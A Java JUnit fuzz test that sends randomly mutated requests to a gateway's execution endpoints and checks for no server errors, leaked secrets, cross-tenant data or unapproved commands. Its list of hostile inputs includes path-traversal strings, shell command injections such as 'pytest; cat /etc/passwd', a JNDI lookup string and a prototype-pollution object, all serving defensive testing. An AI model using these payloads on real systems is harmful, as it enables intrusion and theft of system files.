package dev.writ.surfaces.seed;

import static org.assertj.core.api.Assertions.assertThat;

import dev.writ.canonicalize.Digest;
import dev.writ.canonicalize.json.Jcs;
import dev.writ.canonicalize.json.JsonValue;
import dev.writ.fixture.TestDriver;
import dev.writ.gateway.TestGateway;
import dev.writ.gateway.http.Surface;
import dev.writ.gateway.pipeline.Pipeline;
import dev.writ.gateway.schedule.Lane;
import dev.writ.guardian.document.Resources;
import dev.writ.surfaces.engine.EngineSurface;
import dev.writ.surfaces.execute.ExecuteSurface;
import dev.writ.surfaces.logline.LoglineConfig;
import dev.writ.surfaces.logline.LoglineSurface;
import dev.writ.surfaces.tools.ToolsSurface;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.UnaryOperator;
import java.util.random.RandomGenerator;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Random changes of requests that the surfaces of the seeds would serve, before and after they are
 * signed: no 500, no stack trace, no secret, nothing of another tenant's, nothing that policy does
 * not name is run, and the server goes on. The whole of issue 6 is {@code -Dwrit.mutations=10000}.
 */
class HostileSeedRequestsTest {
  private static final String SECRET = "the-secret-of-eve";
  private static final String SHARED = "a shared secret, long enough";
  private static final long SEED = Long.getLong("writ.seed", 20261122L);
  private static final int COUNT = Integer.getInteger("writ.mutations", 600);

  private static final String SECTIONS =
      """
      execute:
        freshness_s: 86400
        sandboxes: { default: box, restricted: box }
        tenants:
          - tenant: acme
            id: "44444444-4444-4444-8444-444444444444"
            workspaces: ["66666666-6666-4666-8666-666666666666"]
            ceiling: default
            subjects: [ { subject: alice, id: "55555555-5555-4555-8555-555555555555" } ]
        intents:
          - { id: "22222222-2222-4222-8222-222222222222", version: "1.0", state: open, tenant: acme, targets: [ { program: echo } ], ceiling: default, resources: { cpu: "1", memory: 256Mi, timeout_ms: 60000 }, output_bytes: 1048576, effect: { tool: mail, version: 1.0.0, operation: twice, params: { argv: $argv, with: $parameters } } }
      commands:
        workspace_root: /workspace
        sandbox: box
        output_bytes: 8388608
        roles:
          developer:
            commands: [pytest]
            limits: { cpu: 2.0, mem_mb: 4096, timeout_sec: 600 }
            environment: [LANG]
        images: {}
        effect: { tool: exec, version: 1.0.0, operation: twice, params: { argv: $argv, cwd: $cwd, env: $env, image: $image } }
      """;

  private static final String EXECUTE =
      """
      {"artifacts":{"capture_stderr":true,"capture_stdout":true,"output_files":[],"persist":false},\
      "audit":{"execution_trace_id":"77777777-7777-4777-8777-77777777NUMB","parent_trace_id":"88888888-8888-4888-8888-888888888888","requested_by":"orchestrator","timestamp":"2026-11-21T12:00:00Z"},\
      "context":{"subject_id":"55555555-5555-4555-8555-555555555555","tenant_id":"44444444-4444-4444-8444-444444444444","trace_id":"33333333-3333-4333-8333-333333333333","workspace_id":"66666666-6666-4666-8666-666666666666"},\
      "execution_request_id":"11111111-1111-4111-8111-11111111NUMB","execution_request_version":"1.0",\
      "execution_spec":{"executor":"execution","parameters":{"a":[1,{"b":null}]},"target":"echo 'hello'"},\
      "intent_ref":{"intent_id":"22222222-2222-4222-8222-222222222222","intent_version":"1.0","trace_id":"33333333-3333-4333-8333-333333333333"},\
      "resources":{"cpu":"500m","memory":"128Mi","timeout_ms":30000},\
      "sandbox":{"filesystem":"ephemeral","network":"disabled","profile":"default"}}\
      """;

  private static final String LOGLINE =
      """
      {"context":{"run_id":"run_NUMB","tenant_id":"acme"},"input":{"code":"print(1)","language":"python"},"tool_id":"code_interpreter"}\
      """;

  private static final String TOOLS =
      """
      {"case_id":"case-NUMB","cmd":"pytest -q 'a b'","cwd":"/workspace/repo","env":{"LANG":"C"},"limits":{"cpu":1.0,"mem_mb":512},"role":"developer","subtask_id":"DEV-123","timeout_sec":60}\
      """;

  private static final byte[] FILE = {1, 2, 3};

  private static final String ENGINE =
      """
      {"correlationId":"c-NUMB","executionPolicyId":"test","inputArtifacts":[{"digest":"FILE","mediaType":"text/plain","name":"a.txt"}],\
      "inputPayload":{"text":"one two","more":[1,{"b":null}]},"language":"python","operation":"do","requestId":"req-NUMB","resourceClass":"small","tenantId":"acme","timeoutBudgetMs":60000,"toolId":"words","toolVersion":"1.0.0"}\
      """
          .replace("FILE", Digest.sha256(FILE).toString());

  /** What people try. */
  private static final List<String> NASTY =
      List.of(
          "null",
          "true",
          "[]",
          "{}",
          "-1",
          "0",
          "1e400",
          "1e-400",
          "9007199254740993",
          "-0.0",
          "99999999999999999999999999",
          "\"\"",
          "\"\\u0000\"",
          "\"\\ud800\"",
          "\"\\u202e\"",
          "\"../../etc/passwd\"",
          "\"/workspace/../../etc\"",
          "\"/etc/shadow\"",
          "\"other\"",
          "\"pytest; cat /etc/passwd\"",
          "\"pytest $(id)\"",
          "\"pytest `id`\"",
          "\"pytest 'a\"",
          "\"sh -c id\"",
          "\"echo hi | sh\"",
          "\"echo\"",
          "\"bash\"",
          "\"root\"",
          "\"privileged\"",
          "\"host\"",
          "\"enabled\"",
          "\"8Gi\"",
          "\"-500m\"",
          "\"1e9\"",
          "\"500m \"",
          "\"NaN\"",
          "\"44444444-4444-4444-8444-0000000000ee\"",
          "\"eve\"",
          "{\"__proto__\":{\"a\":1}}",
          "[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]",
          "\"" + "A".repeat(5000) + "\"",
          "\"2026-02-30T00:00:00Z\"",
          "\"0000-01-01T00:00:00Z\"",
          "\"${jndi:ldap://x/a}\"");

  @TempDir Path dir;
  private SeedServer server;

  private static List<Surface> surfaces(Pipeline pipeline) {
    TreeMap<String, String> subjects = new TreeMap<>();
    subjects.put("acme", "alice");
    TreeMap<String, LoglineConfig.Tool> tools = new TreeMap<>();
    tools.put(
        "code_interpreter",
        new LoglineConfig.Tool(
            "code_interpreter",
            "1.0.0",
            "twice",
            new Resources(30_000, 1 << 28, 1 << 20, 30_000),
            "box",
            JsonValue.object().build()));
    LoglineConfig logline =
        new LoglineConfig(
            List.of(new LoglineConfig.Secret("first", bytes(SHARED), subjects)), tools, 0);
    return List.of(
        new LoglineSurface(pipeline, logline),
        new ExecuteSurface(pipeline, _ -> {}),
        new ToolsSurface(pipeline, Optional.empty()),
        new EngineSurface(
            pipeline,
            tool ->
                Optional.of(ScriptedLanguage.manifest("words", "1.0.0"))
                    .filter(m -> m.ref().equals(tool)),
            Lane.DIRECT));
  }

  @BeforeEach
  void start() {
    server =
        new SeedServer(
            dir,
            SeedServer.POLICY + SECTIONS,
            HostileSeedRequestsTest::surfaces,
            TestGateway.limits(256, 256, 1024, 1000)); // what never ends, ends soon
    server.home.kernel().contents().put("acme", new ByteArrayInputStream(FILE), "text/plain");
    server.home.submit(server.home.ask("eve").params("{\"s\":\"" + SECRET + "\"}"));
  }

  @AfterEach
  void stop() {
    server.close();
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  /** One way in: a body that is served, and how the whole request is made of a body. */
  private record Way(String body, UnaryOperator<byte[]> request) {}

  private List<Way> ways() {
    return List.of(
        new Way(EXECUTE, body -> http("/execute", bearer(), body)),
        new Way(LOGLINE, body -> http("/execute", hmac(body), body)),
        new Way(TOOLS, body -> http("/v1/tools/exec", bearer(), body)),
        new Way(ENGINE, body -> http(EngineSurface.PATH, bearer(), body)));
  }

  private static String bearer() {
    return "Authorization: Bearer token-of-alice\r\n";
  }

  private String hmac(byte[] body) {
    String time = String.valueOf(server.home.clock.instant().getEpochSecond());
    try {
      Mac mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(bytes(SHARED), "HmacSHA256"));
      mac.update(bytes(time + "."));
      return "X-LogLine-Tool-Id: code_interpreter\r\nX-LogLine-Timestamp: "
          + time
          + "\r\nX-LogLine-Signature: sha256="
          + HexFormat.of().formatHex(mac.doFinal(body))
          + "\r\n";
    } catch (java.security.GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] http(String path, String headers, byte[] body) {
    byte[] head =
        bytes(
            "POST "
                + path
                + " HTTP/1.1\r\n"
                + "Host: localhost\r\n"
                + "Connection: close\r\n"
                + "Content-Type: application/json\r\n"
                + headers
                + "Content-Length: "
                + body.length
                + "\r\n\r\n");
    byte[] whole = Arrays.copyOf(head, head.length + body.length);
    System.arraycopy(body, 0, whole, head.length, body.length);
    return whole;
  }

  @Test
  void theRequestsThatAreChangedWouldBeServed() {
    for (Way way : ways()) {
      String answer = sent(way, bytes(way.body.replace("NUMB", "0000")));
      assertThat(answer).startsWith("HTTP/1.1 200 ").as(answer);
    }
    assertThat(server.home.driver.runs()).hasSize(5); // eve's too
  }

  private String sent(Way way, byte[] body) {
    return TestGateway.raw(server.port(), way.request.apply(body));
  }

  @Test
  void randomMutationsDoNoHarm() throws Exception {
    System.out.println("mutations: " + COUNT + ", -Dwrit.seed=" + SEED);
    List<Future<String>> answers = new ArrayList<>();
    TreeMap<String, Integer> statuses = new TreeMap<>();
    try (ExecutorService senders = Executors.newFixedThreadPool(16, Thread.ofVirtual().factory())) {
      for (int i = 0; i < COUNT; i++) {
        RandomGenerator random = new SplittableRandom(SEED + i);
        Way way = ways().get(i % 4);
        String number = String.format(Locale.ROOT, "%04x", 1 + i % 0xfffe);
        byte[] request = request(way, way.body.replace("NUMB", number), random);
        answers.add(senders.submit(() -> TestGateway.raw(server.port(), request)));
      }
      for (Future<String> future : answers) {
        String answer = future.get(120, TimeUnit.SECONDS);
        harmless(answer);
        statuses.merge(answer.isEmpty() ? "none" : answer.substring(9, 12), 1, Integer::sum);
      }
    }
    System.out.println("answers: " + statuses);
    assertThat(statuses)
        .containsKeys("200", "400", "401", "403", "408", "409"); // some of each kind: it went deep
    assertThat(server.failures).isEmpty();
    onlyWhatPolicyNamesRan();
    theRequestsThatAreChangedAreStillServed();
    assertThat(server.audit().problems()).isEmpty();
  }

  private static void harmless(String answer) {
    assertThat(answer)
        .doesNotStartWith("HTTP/1.1 500")
        .doesNotContain(SECRET)
        .doesNotContain(SHARED)
        .doesNotContain("token-of")
        .doesNotContain("dev.writ.")
        .doesNotContain("java.")
        .doesNotContain("Exception")
        .doesNotContain("\tat ");
  }

  private void onlyWhatPolicyNamesRan() {
    for (TestDriver.Run run : server.home.driver.runs()) {
      String params = new String(Jcs.write(run.invocation().params()), StandardCharsets.UTF_8);
      switch (run.tool()) {
        case "exec" -> assertThat(params).contains("\"argv\":[\"pytest\"");
        case "mail" -> assertThat(params).contains("\"argv\":[\"echo\"");
        case "code_interpreter", "calc", "words" -> {} // what it is given is its user's own
        default -> throw new AssertionError(run.tool());
      }
      boolean eves = run.invocation().scope().tenant().equals("other");
      assertThat(eves).isEqualTo(params.contains(SECRET));
    }
  }

  private void theRequestsThatAreChangedAreStillServed() {
    for (Way way : ways()) {
      assertThat(sent(way, bytes(way.body.replace("NUMB", "ffff")))).startsWith("HTTP/1.1 200 ");
    }
  }

  /**
   * Changed before it is signed (so that it gets in), after it (so that it should not), or both.
   */
  private static byte[] request(Way way, String body, RandomGenerator random) {
    byte[] changed = bytes(body);
    int how = random.nextInt(4);
    if (how != 3) {
      for (int i = 0; i <= random.nextInt(3); i++) {
        changed =
            random.nextBoolean()
                ? structurally(changed, random)
                : random.nextBoolean() ? textually(changed, random) : bytewise(changed, random);
      }
    }
    byte[] request = way.request.apply(changed);
    return how == 0 || how == 3 ? bytewise(request, random) : request;
  }

  /** One member, somewhere, is another value, is gone, or is there twice. */
  private static byte[] structurally(byte[] body, RandomGenerator random) {
    try {
      JsonValue changed = changed(Jcs.parse(body), random);
      return Jcs.write(changed);
    } catch (RuntimeException e) {
      return textually(body, random); // no JSON any more
    }
  }

  private static JsonValue changed(JsonValue value, RandomGenerator random) {
    if (value instanceof JsonValue.Obj object
        && !object.members().isEmpty()
        && random.nextInt(5) > 0) {
      List<String> keys = List.copyOf(object.members().keySet());
      String chosen = keys.get(random.nextInt(keys.size()));
      int what = random.nextInt(12);
      var copy = JsonValue.object();
      object
          .members()
          .forEach((key, member) -> {
            if (!key.equals(chosen)) {
              copy.put(key, member);
            } else if (what > 1) {
              copy.put(key, changed(member, random));
            } else if (what == 1) {
              copy.put(key + "\u00e9", member);
            }
          });
      return copy.build();
    }
    try {
      return Jcs.parse(bytes(NASTY.get(random.nextInt(NASTY.size()))));
    } catch (RuntimeException e) {
      return JsonValue.NULL;
    }
  }

  /** A value as it is written, JSON or not, is replaced. */
  private static byte[] textually(byte[] body, RandomGenerator random) {
    String text = new String(body, StandardCharsets.UTF_8);
    int colon = text.indexOf(':', random.nextInt(Math.max(1, text.length())));
    int end = colon < 0 ? -1 : text.indexOf(random.nextBoolean() ? ',' : '}', colon);
    return end < 0
        ? body
        : bytes(
            text.substring(0, colon + 1)
                + NASTY.get(random.nextInt(NASTY.size()))
                + text.substring(end));
  }

  private static byte[] bytewise(byte[] body, RandomGenerator random) {
    byte[] bytes = body.clone();
    if (bytes.length < 2) {
      return bytes;
    }
    int at = random.nextInt(bytes.length);
    return switch (random.nextInt(4)) {
      case 0 -> {
        bytes[at] = (byte) random.nextInt(256);
        yield bytes;
      }
      case 1 -> Arrays.copyOf(bytes, at);
      case 2 -> joined(Arrays.copyOf(bytes, at), Arrays.copyOfRange(bytes, at / 2, bytes.length));
      default ->
          joined(
              Arrays.copyOf(bytes, at),
              Arrays.copyOfRange(
                  bytes, Math.min(bytes.length, at + 1 + random.nextInt(16)), bytes.length));
    };
  }

  private static byte[] joined(byte[] a, byte[] b) {
    byte[] joined = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, joined, a.length, b.length);
    return joined;
  }
}
